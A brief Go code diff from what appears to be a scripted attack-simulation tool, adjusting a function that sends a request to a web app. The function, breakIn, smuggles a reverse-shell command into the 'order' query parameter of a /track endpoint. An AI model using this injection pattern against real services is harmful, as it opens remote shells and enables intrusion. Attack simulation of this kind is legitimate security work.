@@ -61,7 +61,7 @@ func play(ctx context.Context, s *stage, pace float64, tell func(entry)) error {
 // only when the shell ends, so nobody waits for it.
 func (s *stage) breakIn(ctx context.Context) {
 	target := s.webURL + "/track?order=" + url.QueryEscape(fill(reverseShell, s.names))
-	go func() { _ = get(ctx, target, 200) }()
+	go func() { _ = get(ctx, target) }()
 }
 
 func (s *stage) entry(at time.Time, act, sent string, deeds []deed, heard string) entry {
